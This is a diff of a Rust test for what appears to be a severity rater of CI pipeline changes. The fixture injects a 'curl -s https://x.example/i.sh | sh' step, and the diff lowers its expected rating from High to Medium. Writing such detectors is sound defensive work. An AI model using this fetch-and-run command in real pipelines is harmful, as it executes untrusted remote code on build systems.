@@ -1850,11 +1850,11 @@ mod tests {
             "    paths: [.cache/go-mod/]\n",
             "    paths: [.cache/go-mod/]\n  before_script:\n    - curl -s https://x.example/i.sh | sh\n",
         );
-        assert_eq!(level(old, &scripted), Some(Severity::High));
+        assert_eq!(level(old, &scripted), Some(Severity::Medium));
         // A step or job whose name says cache runs what it runs.
         let named = old.replace("production:", "deploy-with-cache:");
         let changed = named.replace("helm upgrade app chart", "helm upgrade app chart --force");
-        assert_eq!(level(&named, &changed), Some(Severity::High));
+        assert_eq!(level(&named, &changed), Some(Severity::Medium));
     }
 
     #[test]
